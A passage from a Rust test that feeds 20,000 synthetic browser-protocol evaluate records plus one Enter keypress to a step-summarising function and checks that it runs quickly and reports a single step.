    let mut records = vec![on(PAGE, "/a", json!({"method": "Runtime.evaluate"}))];
    for i in 0..20_000 {
        // The second page is somewhere new each time (kept); the first never moves (skipped).
        let (page, path) = match i % 4 {
            0 => (PAGE2, "/b"),
            2 => (PAGE2, "/c"),
            _ => (PAGE, "/a"),
        };
        records.push(on(
            page,
            path,
            json!({"method": "Runtime.evaluate", "bytes": i}),
        ));
    }
    records.push(on(
        PAGE,
        "/a",
        json!({"method": "press", "detail": {"key": "Enter"}}),
    ));
    let started = std::time::Instant::now();
    let out = spec(&records);
    assert!(started.elapsed() < std::time::Duration::from_secs(10));
    assert_eq!(out.figures.steps, 1, "{}", out.text);
}
